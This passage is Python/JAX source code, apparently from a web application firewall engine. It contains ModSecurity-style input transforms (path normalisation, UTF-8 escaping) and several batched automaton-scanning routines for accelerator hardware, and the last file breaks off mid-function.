                                 jnp.where(byte_i, False, at_start))
        return ((d_reset, assigned_out, at_start_new, rel_new),
                (d2, assigned_out, kept_dd))

    n = sym.shape[0]
    z = jnp.zeros(n, dtype=jnp.int32)
    bt = jnp.zeros(n, dtype=bool)
    _, (d_after, assigned, kept_dd) = jax.lax.scan(
        fwd, (z, z, ~bt, bt),
        (seg_start.T, seg_char.T, dd_start.T, slash.T, (sym == BOS).T,
         is_b.T))
    d_after, assigned, kept_dd = d_after.T, assigned.T, kept_dd.T
    kept_dd = kept_dd | _shift_right(kept_dd, 1, False)  # both '..' chars

    # backward scan: suffix-min of d_after within the value decides
    # survival (a real segment at depth p survives iff the clamped depth
    # never drops below p after its end)
    BIG = jnp.int32(1 << 30)

    def bwd(m, cols):
        d_i, eos_i, byte_i = cols
        m = jnp.where(eos_i, BIG, m)
        keep_min = jnp.where(byte_i, jnp.minimum(m, d_i), m)
        return keep_min, m  # emit min over STRICTLY later positions

    _, m_later = jax.lax.scan(
        bwd, jnp.full(n, BIG, dtype=jnp.int32),
        ((d_after[:, ::-1]).T, ((sym == EOS)[:, ::-1]).T,
         (is_b[:, ::-1]).T))
    m_later = m_later.T[:, ::-1]
    seg_kept_at_end = seg_end & (m_later >= assigned)

    # propagate the keep verdict backward across each segment's chars
    def seg_prop(carry, cols):
        kept_i, seg_char_i, end_i = cols
        c = jnp.where(end_i, kept_i, carry & seg_char_i)
        return c, c

    _, seg_kept = jax.lax.scan(
        seg_prop, bt,
        ((seg_kept_at_end[:, ::-1]).T, (seg_char[:, ::-1]).T,
         (seg_end[:, ::-1]).T))
    seg_kept = seg_kept.T[:, ::-1] & seg_char

    # elements (for the join rule) = real segs + kept '..' + the virtual
    # leading/trailing empties. A '/' is kept iff the element right after
    # it is kept AND some element before it in the value is kept; the
    # virtual trailing "" (value ends in '/') keeps its slash, and the
    # leading fixup keeps the value's first '/' when nothing else is.
    elem_char = seg_kept | kept_dd
    next_is_elem = _shift_left(elem_char, 1, False)
    trailing_empty = slash & (nxt == EOS)

    def kept_before(carry, cols):
        e_i, bos_i = cols
        out = carry
        new = jnp.where(bos_i, False, carry | e_i)
        return new, out

    _, before = jax.lax.scan(
        kept_before, bt, (elem_char.T, is_bos.T))
    before = before.T
    # the virtual leading "" of an absolute path counts as a kept element
    leading_slash = slash & (prev == BOS)
    before = before | _segment_flag(leading_slash, is_bos)
    slash_kept = slash & (next_is_elem | trailing_empty) & \
        (before | leading_slash)

    # leading fixup: value reduces to nothing but started with '/'
    any_kept = _segment_any(slash_kept | elem_char, is_bos, sym == EOS)
    slash_kept = slash_kept | (leading_slash & ~any_kept)
    return compact(sym, ~is_b | elem_char | slash_kept)


def _segment_flag(flag, is_bos):
    """Propagate a per-value one-shot flag (set at most once near BOS)
    to every later position of the value."""
    def step(carry, cols):
        f_i, bos_i = cols
        new = jnp.where(bos_i, False, carry) | f_i
        return new, new

    n = flag.shape[0]
    _, out = jax.lax.scan(
        step, jnp.zeros(n, dtype=bool), (flag.T, is_bos.T))
    return out.T


def _segment_any(flag, is_bos, is_eos):
    """True at every position of a value iff flag holds anywhere in it."""
    fwd = _segment_flag(flag, is_bos)

    def back(carry, cols):
        f_i, eos_i = cols
        new = jnp.where(eos_i, False, carry) | f_i
        return new, new

    n = flag.shape[0]
    _, out = jax.lax.scan(
        back, jnp.zeros(n, dtype=bool),
        ((fwd[:, ::-1]).T, (is_eos[:, ::-1]).T))
    return out.T[:, ::-1]


def t_normalizepath(sym):
    # pass 1: collapse '/' runs (keep the first of each run)
    prev = _shift_right(sym, 1, PAD)
    dup = (sym == 0x2F) & (prev == 0x2F) & _is_byte(sym)
    sym = compact(sym, ~dup)
    return _normalizepath_collapsed(sym)


def t_normalizepathwin(sym):
    sym = jnp.where((sym == 0x5C) & _is_byte(sym), 0x2F, sym)
    return t_normalizepath(sym)


def t_utf8tounicode(sym):
    """UTF-8 2/3-byte sequences -> '%uxxxx' (ModSecurity utf8toUnicode).
    EXPANDS the stream up to 3x: callers must budget the widened width
    (see EXPANSION). Valid lead bytes consume their continuation bytes —
    spans contain only continuation bytes (0x80-0xBF), which can never
    themselves be leads, so start detection is local and exact."""
    n, ln = sym.shape
    s1 = _shift_left(sym, 1, PAD)
    s2 = _shift_left(sym, 2, PAD)
    cont1 = (s1 >= 0x80) & (s1 <= 0xBF)
    cont2 = (s2 >= 0x80) & (s2 <= 0xBF)
    lead2 = (sym >= 0xC0) & (sym <= 0xDF) & cont1 & _is_byte(sym)
    lead3 = (sym >= 0xE0) & (sym <= 0xEF) & cont1 & cont2 & _is_byte(sym)
    cp = jnp.where(lead3,
                   ((sym & 0x0F) << 12) | ((s1 & 0x3F) << 6) | (s2 & 0x3F),
                   ((sym & 0x1F) << 6) | (s1 & 0x3F))
    active = lead2 | lead3
    covered = _shift_right(active, 1, False) | \
        _shift_right(lead3, 2, False)
    count = jnp.where(active, 6, jnp.where(covered, 0, 1))
    off = jnp.cumsum(count, axis=1) - count
    width = 3 * ln
    out = jnp.full((n, width + 1), PAD, dtype=sym.dtype)

    def hexd(v):
        return jnp.where(v < 10, 0x30 + v, 0x57 + v)

    chars = [jnp.full_like(sym, 0x25), jnp.full_like(sym, 0x75),
             hexd((cp >> 12) & 0xF), hexd((cp >> 8) & 0xF),
             hexd((cp >> 4) & 0xF), hexd(cp & 0xF)]
    scatter = jax.vmap(lambda o, p, s: o.at[p].set(s))
    # single-symbol emissions (ASCII, invalid bytes, markers)
    single = count == 1
    out = scatter(out, jnp.where(single, off, width), sym)
    for k, ch in enumerate(chars):
        out = scatter(out, jnp.where(active, off + k, width), ch)
    return out[:, :width]


JAX_TRANSFORMS = {
    "none": t_none,
    "lowercase": t_lowercase,
    "uppercase": t_uppercase,
    "urldecode": t_urldecode,
    "urldecodeuni": t_urldecodeuni,
    "htmlentitydecode": t_htmlentitydecode,
    "removenulls": t_removenulls,
    "replacenulls": t_replacenulls,
    "removewhitespace": t_removewhitespace,
    "compresswhitespace": t_compresswhitespace,
    "trim": t_trim,
    "trimleft": t_trimleft,
    "trimright": t_trimright,
    "cmdline": t_cmdline,
    "jsdecode": t_jsdecode,
    "cssdecode": t_cssdecode,
    "base64decode": t_base64decode,
    "removecomments": t_removecomments,
    "normalizepath": t_normalizepath,
    "normalisepath": t_normalizepath,
    "normalizepathwin": t_normalizepathwin,
    "normalisepathwin": t_normalizepathwin,
    "utf8tounicode": t_utf8tounicode,
}

# stream-width growth factor per transform (chains multiply); the runtime
# budgets unroll/launch decisions on the post-transform width
EXPANSION = {"utf8tounicode": 3}

# Transforms that are pure per-symbol maps: position i of the output
# depends only on symbol i of the input (and PAD maps to PAD). Everything
# else repositions symbols (decode/compaction via compact(), trim, ...),
# so transforming chunk-by-chunk would diverge from transforming the
# whole stream at split points. Carried-state chunk scans
# (runtime/multitenant stream_open/stream_step) are restricted to chains
# of these.
ELEMENTWISE = frozenset({"none", "lowercase", "uppercase", "replacenulls"})


def chain_expansion(names: tuple[str, ...]) -> int:
    e = 1
    for name in names:
        e *= EXPANSION.get(name, 1)
    return e


def apply_chain(sym, names: tuple[str, ...]):
    for name in names:
        sym = JAX_TRANSFORMS[name](sym)
    return sym
