"""Batched automaton stepping.

Three formulations of the same recurrence
``state = T[m, state, cls[m, sym]]`` over lanes (one lane = one
(request, matcher) stream):

1. **gather mode** — one fused gather per scan step. On trn this is
   GpSimdE-shaped work with tables resident in SBUF; HBM traffic is just
   the input symbols (B bytes/step for the whole batch).

2. **one-hot matmul mode** — for banks of small automata: the carried
   state is a one-hot vector and the step is
   ``next = (state ⊗ onehot(cls)) @ T2``
   with ``T2[m]`` the [S*C, S] 0/1 transition tensor. Exact in bf16
   (values are 0/1), batched over matchers -> TensorE matmuls of shape
   [B, S*C] x [S*C, S]. No gathers anywhere; this is the formulation that
   keeps the 78.6 TF/s engine fed. Requires S*C small (<= ~2048).

3. **compose mode** — log sequential depth: each step's transition is a
   one-hot S×S map and a chunk of K maps is prefix-composed with
   ``lax.associative_scan`` over batched block-diagonal boolean matmuls
   (ceil(log2 K) rounds instead of K serialized steps); per-chunk maps
   fold sequentially so map memory stays N*K*S² per step. Rows stay
   exactly one-hot, so 0/1 bf16 arithmetic keeps verdicts bit-identical
   to the gather path.

Modes 1 and 2 are pure ``lax.scan`` recurrences with static shapes; mode
3 is a ``lax.scan`` over chunks whose body is itself log-parallel —
still static shapes and no data-dependent control flow, one compiled
program per (L, N, M, S, C) bucket, cached across calls.
"""

from __future__ import annotations

import math

import jax
import jax.numpy as jnp

from .packing import PAD, compose_chunk


def gather_scan(tables, classes, starts, lane_matcher, symbols):
    """tables [M,S,C] i32, classes [M,259] i32, starts [M] i32,
    lane_matcher [N] i32, symbols [N,L] i32 -> final states [N] i32."""
    tables, classes, starts, lane_matcher, symbols = map(
        jnp.asarray, (tables, classes, starts, lane_matcher, symbols))
    M, S, C = tables.shape
    flat = tables.reshape(M * S * C)
    lane_cls = classes[lane_matcher]  # [N, 259]
    base = lane_matcher * (S * C)  # [N]
    state0 = starts[lane_matcher]

    def step(state, sym_col):
        cls = jnp.take_along_axis(
            lane_cls, sym_col[:, None], axis=1)[:, 0]
        idx = base + state * C + cls
        return flat[idx], None

    final, _ = jax.lax.scan(step, state0, symbols.T)
    return final


def gather_scan_with_state(tables, classes, lane_matcher, symbols, state0):
    """Same recurrence but with caller-provided initial states — the
    carried-state primitive for chunked large-body streaming (SURVEY.md §5
    long-context analog)."""
    tables, classes, lane_matcher, symbols, state0 = map(
        jnp.asarray, (tables, classes, lane_matcher, symbols, state0))
    M, S, C = tables.shape
    flat = tables.reshape(M * S * C)
    lane_cls = classes[lane_matcher]
    base = lane_matcher * (S * C)

    def step(state, sym_col):
        cls = jnp.take_along_axis(lane_cls, sym_col[:, None], axis=1)[:, 0]
        return flat[base + state * C + cls], None

    final, _ = jax.lax.scan(step, state0, symbols.T)
    return final


def onehot_matmul_scan(tables, classes, starts, lane_matcher, symbols,
                       dtype=jnp.bfloat16):
    """TensorE formulation. Same I/O contract as gather_scan.

    The transition tensor is precomputed as T2[m, s*C+c, j] = 1 iff
    T[m,s,c]=j. Each step: one elementwise outer product (VectorE) and one
    batched matmul (TensorE). The one-hot state stays exactly one-hot —
    0/1 arithmetic is exact in bf16.
    """
    tables, classes, starts, lane_matcher, symbols = map(
        jnp.asarray, (tables, classes, starts, lane_matcher, symbols))
    M, S, C = tables.shape
    # T2: [M, S*C, S] one-hot of next-state
    t2 = jax.nn.one_hot(tables.reshape(M, S * C), S, dtype=dtype)
    lane_t2 = t2[lane_matcher]  # [N, S*C, S] (gathered once, outside scan)
    lane_cls = classes[lane_matcher]  # [N, 259]
    state0 = jax.nn.one_hot(starts[lane_matcher], S, dtype=dtype)  # [N, S]

    def step(state, sym_col):
        cls = jnp.take_along_axis(lane_cls, sym_col[:, None], axis=1)[:, 0]
        cls_oh = jax.nn.one_hot(cls, C, dtype=dtype)  # [N, C]
        outer = (state[:, :, None] * cls_oh[:, None, :]).reshape(
            state.shape[0], S * C)  # [N, S*C]
        nxt = jnp.einsum("nk,nkj->nj", outer, lane_t2,
                         preferred_element_type=dtype)
        return nxt, None

    final, _ = jax.lax.scan(step, state0, symbols.T)
    return jnp.argmax(final, axis=1).astype(jnp.int32)


# Backend loop constraints (both observed on trn2 silicon):
#  - neuronx-cc rejects dynamic `while` outright (NCC_EUOC002), so every
#    scan must have a static length and gets fully unrolled;
#  - >~512 chained gathers in one NEFF overflow a 16-bit semaphore
#    counter (ICE: "bound check failure ... instr.semaphore_wait_value").
# Hence: streams up to MAX_UNROLL symbols run as ONE fused program;
# longer streams chain MAX_UNROLL-sized block programs with carried
# state, dispatched back-to-back without host sync (async device chaining).
MAX_UNROLL = 256


def fused_screen_scan(table, classes, masks, symbols):
    """Single-program union-screen scan over the full (static) stream
    length; see screen_scan_with_state for the semantics. Caller must keep
    symbols.shape[1] <= MAX_UNROLL."""
    table, classes, masks, symbols = map(
        jnp.asarray, (table, classes, masks, symbols))
    N = symbols.shape[0]
    state0 = jnp.zeros((N,), jnp.int32)
    acc0 = jnp.zeros((N, masks.shape[1]), jnp.int32)
    _, acc = screen_scan_with_state(
        table, classes, masks, symbols, state0, acc0)
    return acc


def screen_scan_with_state(table, classes, masks, symbols, state0, acc0):
    """Union-screen chunk scan: ONE automaton shared by every lane, with
    per-state output masks OR-accumulated along the way.

    table [S, C] i32, classes [259] i32, masks [S, W] i32,
    symbols [N, Lc] i32, state0 [N] i32, acc0 [N, W] i32
    -> (final states [N], acc [N, W]).

    Two gathers per step (next state, mask row) on a handful of lanes per
    request — versus one gather per step on one lane per MATCHER in the
    dedicated scan. compiler/screen.py explains the screening contract.
    """
    table, classes, masks, symbols, state0, acc0 = map(
        jnp.asarray, (table, classes, masks, symbols, state0, acc0))
    S, C = table.shape
    flat = table.reshape(S * C)

    def step(carry, sym_col):
        state, acc = carry
        cls = classes[sym_col]
        nstate = flat[state * C + cls]
        acc = acc | masks[nstate]
        return (nstate, acc), None

    (final, acc), _ = jax.lax.scan(step, (state0, acc0), symbols.T)
    return final, acc


def onehot_matmul_scan_with_state(tables, classes, lane_matcher, symbols,
                                  state0, dtype=jnp.bfloat16):
    """TensorE formulation with caller-provided integer initial states —
    the carried-state chunk primitive (same contract as
    gather_scan_with_state, but the step is an outer-product + batched
    matmul instead of a gather)."""
    tables, classes, lane_matcher, symbols, state0 = map(
        jnp.asarray, (tables, classes, lane_matcher, symbols, state0))
    M, S, C = tables.shape
    t2 = jax.nn.one_hot(tables.reshape(M, S * C), S, dtype=dtype)
    lane_t2 = t2[lane_matcher]  # [N, S*C, S]
    lane_cls = classes[lane_matcher]  # [N, 259]
    state = jax.nn.one_hot(state0, S, dtype=dtype)  # [N, S]

    def step(state, sym_col):
        cls = jnp.take_along_axis(lane_cls, sym_col[:, None], axis=1)[:, 0]
        cls_oh = jax.nn.one_hot(cls, C, dtype=dtype)
        outer = (state[:, :, None] * cls_oh[:, None, :]).reshape(
            state.shape[0], S * C)
        nxt = jnp.einsum("nk,nkj->nj", outer, lane_t2,
                         preferred_element_type=dtype)
        return nxt, None

    final, _ = jax.lax.scan(step, state, symbols.T)
    return jnp.argmax(final, axis=1).astype(jnp.int32)


# --- strided scanning ------------------------------------------------------
# Stride-k variants consume k symbols per sequential step through offline-
# composed tables (ops/packing.StridedTables / compiler/screen.py strided
# screens). Per step: k state-INDEPENDENT class gathers + log2(k) pair-
# class folds (also state-independent, so the backend can hoist them off
# the recurrence) and exactly ONE state-dependent table gather — the
# scan's sequential depth drops k× while per-step parallel work grows
# only additively. Final states are bit-identical to the stride-1 scan:
# composition is exact and PAD's identity class composes to an identity
# pair-class (odd tails are no-ops).


def _stride_blocks(symbols, stride):
    """[N, L] -> scan xs [L/stride, stride, N] of consecutive symbol
    blocks, PAD-padding a ragged tail (identity class = scan no-op)."""
    rem = symbols.shape[1] % stride
    if rem:
        symbols = jnp.pad(symbols, ((0, 0), (0, stride - rem)),
                          constant_values=PAD)
    L = symbols.shape[1]
    return symbols.T.reshape(L // stride, stride, symbols.shape[0])


def _fold_lane_classes(lane_levels, cls):
    """Fold per-symbol class columns (len == stride) through per-lane
    pair-class index levels down to ONE final class per lane."""
    vals = list(cls)
    for lvl in lane_levels:  # [N, w*w]
        w = math.isqrt(lvl.shape[1])
        vals = [
            jnp.take_along_axis(
                lvl, (vals[i] * w + vals[i + 1])[:, None], axis=1)[:, 0]
            for i in range(0, len(vals), 2)
        ]
    return vals[0]


def _fold_global_classes(levels, cls):
    """Single-automaton (screen) variant of _fold_lane_classes."""
    vals = list(cls)
    for lvl in levels:  # [w*w]
        w = math.isqrt(lvl.shape[0])
        vals = [lvl[vals[i] * w + vals[i + 1]]
                for i in range(0, len(vals), 2)]
    return vals[0]


def gather_scan_strided(tables, levels, classes, starts, lane_matcher,
                        symbols, stride):
    """Stride-k gather scan. Same I/O contract as gather_scan, but
    ``tables`` [M, S, P] are the composed next-state tables and
    ``levels`` the pair-class index chain (ops/packing.StridedTables)."""
    tables, classes, starts, lane_matcher, symbols = map(
        jnp.asarray, (tables, classes, starts, lane_matcher, symbols))
    levels = tuple(jnp.asarray(lv) for lv in levels)
    M, S, P = tables.shape
    flat = tables.reshape(M * S * P)
    lane_cls = classes[lane_matcher]  # [N, 259]
    lane_levels = [lv[lane_matcher] for lv in levels]
    base = lane_matcher * (S * P)
    state0 = starts[lane_matcher]

    def step(state, sym_block):  # sym_block [stride, N]
        cls = [jnp.take_along_axis(lane_cls, sym_block[i][:, None],
                                   axis=1)[:, 0] for i in range(stride)]
        pc = _fold_lane_classes(lane_levels, cls)
        return flat[base + state * P + pc], None

    final, _ = jax.lax.scan(step, state0, _stride_blocks(symbols, stride))
    return final


def gather_scan_strided_with_state(tables, levels, classes, lane_matcher,
                                   symbols, state0, stride):
    """Carried-state stride-k chunk primitive (block-chained long
    streams); contract matches gather_scan_with_state."""
    tables, classes, lane_matcher, symbols, state0 = map(
        jnp.asarray, (tables, classes, lane_matcher, symbols, state0))
    levels = tuple(jnp.asarray(lv) for lv in levels)
    M, S, P = tables.shape
    flat = tables.reshape(M * S * P)
    lane_cls = classes[lane_matcher]
    lane_levels = [lv[lane_matcher] for lv in levels]
    base = lane_matcher * (S * P)

    def step(state, sym_block):
        cls = [jnp.take_along_axis(lane_cls, sym_block[i][:, None],
                                   axis=1)[:, 0] for i in range(stride)]
        pc = _fold_lane_classes(lane_levels, cls)
        return flat[base + state * P + pc], None

    final, _ = jax.lax.scan(step, state0, _stride_blocks(symbols, stride))
    return final


def onehot_matmul_scan_strided(tables, levels, classes, starts,
                               lane_matcher, symbols, stride,
                               dtype=jnp.bfloat16):
    """TensorE stride-k formulation: the one-hot contraction dim becomes
    S*P (P = pair-class count) and the step count drops k×."""
    tables, classes, starts, lane_matcher, symbols = map(
        jnp.asarray, (tables, classes, starts, lane_matcher, symbols))
    levels = tuple(jnp.asarray(lv) for lv in levels)
    M, S, P = tables.shape
    t2 = jax.nn.one_hot(tables.reshape(M, S * P), S, dtype=dtype)
    lane_t2 = t2[lane_matcher]  # [N, S*P, S]
    lane_cls = classes[lane_matcher]
    lane_levels = [lv[lane_matcher] for lv in levels]
    state0 = jax.nn.one_hot(starts[lane_matcher], S, dtype=dtype)

    def step(state, sym_block):
        cls = [jnp.take_along_axis(lane_cls, sym_block[i][:, None],
                                   axis=1)[:, 0] for i in range(stride)]
        pc = _fold_lane_classes(lane_levels, cls)
        pc_oh = jax.nn.one_hot(pc, P, dtype=dtype)
        outer = (state[:, :, None] * pc_oh[:, None, :]).reshape(
            state.shape[0], S * P)
        nxt = jnp.einsum("nk,nkj->nj", outer, lane_t2,
                         preferred_element_type=dtype)
        return nxt, None

    final, _ = jax.lax.scan(step, state0, _stride_blocks(symbols, stride))
    return jnp.argmax(final, axis=1).astype(jnp.int32)


def onehot_matmul_scan_strided_with_state(tables, levels, classes,
                                          lane_matcher, symbols, state0,
                                          stride, dtype=jnp.bfloat16):
    """Carried-state TensorE stride-k chunk primitive."""
    tables, classes, lane_matcher, symbols, state0 = map(
        jnp.asarray, (tables, classes, lane_matcher, symbols, state0))
    levels = tuple(jnp.asarray(lv) for lv in levels)
    M, S, P = tables.shape
    t2 = jax.nn.one_hot(tables.reshape(M, S * P), S, dtype=dtype)
    lane_t2 = t2[lane_matcher]
    lane_cls = classes[lane_matcher]
    lane_levels = [lv[lane_matcher] for lv in levels]
    state = jax.nn.one_hot(state0, S, dtype=dtype)

    def step(state, sym_block):
        cls = [jnp.take_along_axis(lane_cls, sym_block[i][:, None],
                                   axis=1)[:, 0] for i in range(stride)]
        pc = _fold_lane_classes(lane_levels, cls)
        pc_oh = jax.nn.one_hot(pc, P, dtype=dtype)
        outer = (state[:, :, None] * pc_oh[:, None, :]).reshape(
            state.shape[0], S * P)
        nxt = jnp.einsum("nk,nkj->nj", outer, lane_t2,
                         preferred_element_type=dtype)
        return nxt, None

    final, _ = jax.lax.scan(step, state, _stride_blocks(symbols, stride))
    return jnp.argmax(final, axis=1).astype(jnp.int32)


def fused_screen_scan_strided(table, levels, classes, masks2, symbols,
                              stride):
    """Single-program stride-k union-screen scan (see
    screen_scan_strided_with_state)."""
    table, classes, masks2, symbols = map(
        jnp.asarray, (table, classes, masks2, symbols))
    N = symbols.shape[0]
    state0 = jnp.zeros((N,), jnp.int32)
    acc0 = jnp.zeros((N, masks2.shape[2]), jnp.int32)
    _, acc = screen_scan_strided_with_state(
        table, levels, classes, masks2, symbols, state0, acc0, stride)
    return acc


def screen_scan_strided_with_state(table, levels, classes, masks2,
                                   symbols, state0, acc0, stride):
    """Stride-k union-screen chunk scan. ``masks2`` [S, P, W] carries the
    OR of every intermediate state's mask along the composed step
    (compiler/screen.compose_screen_stride keys pair-class merging on
    the mask column too, so accumulation stays exact): one fused
    state-dependent gather yields next-state AND the step's mask
    contribution."""
    table, classes, masks2, symbols, state0, acc0 = map(
        jnp.asarray, (table, classes, masks2, symbols, state0, acc0))
    levels = tuple(jnp.asarray(lv) for lv in levels)
    S, P = table.shape
    flat = table.reshape(S * P)
    mflat = masks2.reshape(S * P, masks2.shape[2])

    def step(carry, sym_block):
        state, acc = carry
        cls = [classes[sym_block[i]] for i in range(stride)]
        pc = _fold_global_classes(levels, cls)
        idx = state * P + pc
        acc = acc | mflat[idx]
        return (flat[idx], acc), None

    (final, acc), _ = jax.lax.scan(
        step, (state0, acc0), _stride_blocks(symbols, stride))
    return final, acc


# --- compose mode ----------------------------------------------------------
# The recurrence over one symbol is a deterministic function map on the
# state set; as a one-hot S×S boolean matrix, applying symbol a then b to
# a state ROW vector v is v @ M_a @ M_b. Matrix product is associative,
# so a chunk of K per-step maps prefix-composes in ceil(log2 K)
# associative-scan rounds of batched matmuls instead of K serialized
# steps. Rows of a function-map product stay exactly one-hot (each row of
# A @ B selects one row of B), so every 0/1 value is exact in bf16 and
# verdicts are bit-identical to the gather recurrence. Chunks fold
# sequentially under lax.scan so live map memory is N*K*S² per step;
# stride-k reuses the composed StridedTables, with the whole pair-class
# stream folded OUTSIDE the scan (state-independent). PAD's identity
# class yields an identity map, so chunk/stride padding is a no-op.


def _onehot_maps(tables, dtype):
    """[M, S, C] next-state tables -> [M, C, S, S] one-hot maps with
    map[m, c, i, j] = 1 iff T[m, i, c] == j."""
    S = tables.shape[1]
    return jnp.transpose(jax.nn.one_hot(tables, S, dtype=dtype),
                         (0, 2, 1, 3))


def _compose_block(maps):
    """Prefix-compose one chunk of per-step maps [N, K, S, S] in
    ceil(log2 K) rounds -> the chunk's total map [N, S, S].
    combine(earlier, later) = earlier @ later (row-vector convention)."""
    def combine(a, b):
        return jnp.einsum("...ij,...jk->...ik", a, b,
                          preferred_element_type=a.dtype)

    pfx = jax.lax.associative_scan(combine, maps, axis=1)
    return pfx[:, -1]


def _compose_core(lane_maps, cls_stream, state, chunk, dtype):
    """Chunked compose core: per chunk, gather the K per-step maps
    [N, K, S, S], prefix-compose them, apply the chunk map to the carried
    one-hot state [N, S]. ``cls_stream`` [N, T] with T % chunk == 0;
    sequential depth is (T/chunk) * (ceil(log2 chunk) + 1)."""
    N, T = cls_stream.shape
    lane_ix = jnp.arange(N)[:, None]
    xs = cls_stream.T.reshape(T // chunk, chunk, N)

    def chunk_step(state, cls_chunk):  # cls_chunk [K, N]
        maps = lane_maps[lane_ix, cls_chunk.T]  # [N, K, S, S]
        nstate = jnp.einsum("ns,nst->nt", state, _compose_block(maps),
                            preferred_element_type=dtype)
        return nstate, None

    final, _ = jax.lax.scan(chunk_step, state, xs)
    return final


def _pad_chunks(symbols, target):
    rem = symbols.shape[1] % target
    if rem:
        symbols = jnp.pad(symbols, ((0, 0), (0, target - rem)),
                          constant_values=PAD)
    return symbols


def compose_scan(tables, classes, starts, lane_matcher, symbols,
                 chunk=None, dtype=jnp.bfloat16):
    """Compose-mode scan; same I/O contract as gather_scan. ``chunk``
    defaults to the WAF_COMPOSE_CHUNK knob."""
    starts, lane_matcher = map(jnp.asarray, (starts, lane_matcher))
    return compose_scan_with_state(
        tables, classes, lane_matcher, symbols, starts[lane_matcher],
        chunk=chunk, dtype=dtype)


def compose_scan_with_state(tables, classes, lane_matcher, symbols,
                            state0, chunk=None, dtype=jnp.bfloat16):
    """Carried-state compose-mode chunk primitive (contract matches
    gather_scan_with_state)."""
    tables, classes, lane_matcher, symbols, state0 = map(
        jnp.asarray, (tables, classes, lane_matcher, symbols, state0))
    if chunk is None:
        chunk = compose_chunk()
    M, S, C = tables.shape
    K = max(1, min(chunk, symbols.shape[1]))
    symbols = _pad_chunks(symbols, K)
    lane_maps = _onehot_maps(tables, dtype)[lane_matcher]  # [N, C, S, S]
    cls_stream = jnp.take_along_axis(classes[lane_matcher], symbols,
                                     axis=1)  # [N, T]
    state = jax.nn.one_hot(state0, S, dtype=dtype)
    final = _compose_core(lane_maps, cls_stream, state, K, dtype)
    return jnp.argmax(final, axis=1).astype(jnp.int32)


def _fold_lane_classes_wide(lane_levels, cols):
    """_fold_lane_classes over whole [N, T] class columns at once —
    compose mode folds the full pair-class stream outside the scan."""
    vals = list(cols)
    for lvl in lane_levels:  # [N, w*w]
        w = math.isqrt(lvl.shape[1])
        vals = [jnp.take_along_axis(lvl, vals[i] * w + vals[i + 1], axis=1)
                for i in range(0, len(vals), 2)]
    return vals[0]


def compose_scan_strided(tables, levels, classes, starts, lane_matcher,
                         symbols, stride, chunk=None, dtype=jnp.bfloat16):
    """Stride-k compose scan over composed StridedTables; contract
    matches gather_scan_strided."""
    starts, lane_matcher = map(jnp.asarray, (starts, lane_matcher))
    return compose_scan_strided_with_state(
        tables, levels, classes, lane_matcher, symbols,
        starts[lane_matcher], stride, chunk=chunk, dtype=dtype)


def compose_scan_strided_with_state(tables, levels, classes, lane_matcher,
                                    symbols, state0, stride, chunk=None,
                                    dtype=jnp.bfloat16):
    """Carried-state stride-k compose chunk primitive (contract matches
    gather_scan_strided_with_state)."""
    tables, classes, lane_matcher, symbols, state0 = map(
        jnp.asarray, (tables, classes, lane_matcher, symbols, state0))
    levels = tuple(jnp.asarray(lv) for lv in levels)
    if chunk is None:
        chunk = compose_chunk()
    M, S, P = tables.shape
    T0 = -(-symbols.shape[1] // stride)
    K = max(1, min(chunk, T0))
    symbols = _pad_chunks(symbols, stride * K)
    blocks = _stride_blocks(symbols, stride)  # [T, stride, N]
    lane_cls = classes[lane_matcher]
    lane_levels = [lv[lane_matcher] for lv in levels]
    cols = [jnp.take_along_axis(lane_cls, blocks[:, i, :].T, axis=1)
            for i in range(stride)]  # stride × [N, T]
    pc_stream = _fold_lane_classes_wide(lane_levels, cols)  # [N, T]
    lane_maps = _onehot_maps(tables, dtype)[lane_matcher]  # [N, P, S, S]
    state = jax.nn.one_hot(state0, S, dtype=dtype)
    final = _compose_core(lane_maps, pc_stream, state, K, dtype)
    return jnp.argmax(final, axis=1).astype(jnp.int32)


def compose_depth(width, stride=1, chunk=None):
    """Sequential depth of a compose-mode scan over ``width`` symbols:
    n_chunks sequential chunk folds × (ceil(log2 K) composition rounds
    + 1 state-apply). The gather/matmul equivalent is width/stride."""
    if chunk is None:
        chunk = compose_chunk()
    steps = -(-width // stride)
    K = max(1, min(chunk, steps))
    n_chunks = -(-steps // K)
    return n_chunks * ((K - 1).bit_length() + 1)


def match_bits(final_states, accepts, lane_matcher):
    """final [N], accepts [M] -> bool [N] (lane matched)."""
    final_states, accepts, lane_matcher = map(
        jnp.asarray, (final_states, accepts, lane_matcher))
    return final_states == accepts[lane_matcher]
