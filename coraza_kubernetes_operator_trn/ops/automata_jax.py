"""Batched automaton stepping.

Two formulations of the same recurrence ``state = T[m, state, cls[m, sym]]``
over lanes (one lane = one (request, matcher) stream):

1. **gather mode** — one fused gather per scan step. On trn this is
   GpSimdE-shaped work with tables resident in SBUF; HBM traffic is just
   the input symbols (B bytes/step for the whole batch).

2. **one-hot matmul mode** — for banks of small automata: the carried
   state is a one-hot vector and the step is
   ``next = (state ⊗ onehot(cls)) @ T2``
   with ``T2[m]`` the [S*C, S] 0/1 transition tensor. Exact in bf16
   (values are 0/1), batched over matchers -> TensorE matmuls of shape
   [B, S*C] x [S*C, S]. No gathers anywhere; this is the formulation that
   keeps the 78.6 TF/s engine fed. Requires S*C small (<= ~2048).

Both are pure ``lax.scan`` recurrences with static shapes — exactly what
neuronx-cc wants (no data-dependent control flow, one compiled program per
(L, N, M, S, C) bucket, cached across calls).
"""

from __future__ import annotations

import jax
import jax.numpy as jnp


def gather_scan(tables, classes, starts, lane_matcher, symbols):
    """tables [M,S,C] i32, classes [M,259] i32, starts [M] i32,
    lane_matcher [N] i32, symbols [N,L] i32 -> final states [N] i32."""
    tables, classes, starts, lane_matcher, symbols = map(
        jnp.asarray, (tables, classes, starts, lane_matcher, symbols))
    M, S, C = tables.shape
    flat = tables.reshape(M * S * C)
    lane_cls = classes[lane_matcher]  # [N, 259]
    base = lane_matcher * (S * C)  # [N]
    state0 = starts[lane_matcher]

    def step(state, sym_col):
        cls = jnp.take_along_axis(
            lane_cls, sym_col[:, None], axis=1)[:, 0]
        idx = base + state * C + cls
        return flat[idx], None

    final, _ = jax.lax.scan(step, state0, symbols.T)
    return final


def gather_scan_with_state(tables, classes, lane_matcher, symbols, state0):
    """Same recurrence but with caller-provided initial states — the
    carried-state primitive for chunked large-body streaming (SURVEY.md §5
    long-context analog)."""
    tables, classes, lane_matcher, symbols, state0 = map(
        jnp.asarray, (tables, classes, lane_matcher, symbols, state0))
    M, S, C = tables.shape
    flat = tables.reshape(M * S * C)
    lane_cls = classes[lane_matcher]
    base = lane_matcher * (S * C)

    def step(state, sym_col):
        cls = jnp.take_along_axis(lane_cls, sym_col[:, None], axis=1)[:, 0]
        return flat[base + state * C + cls], None

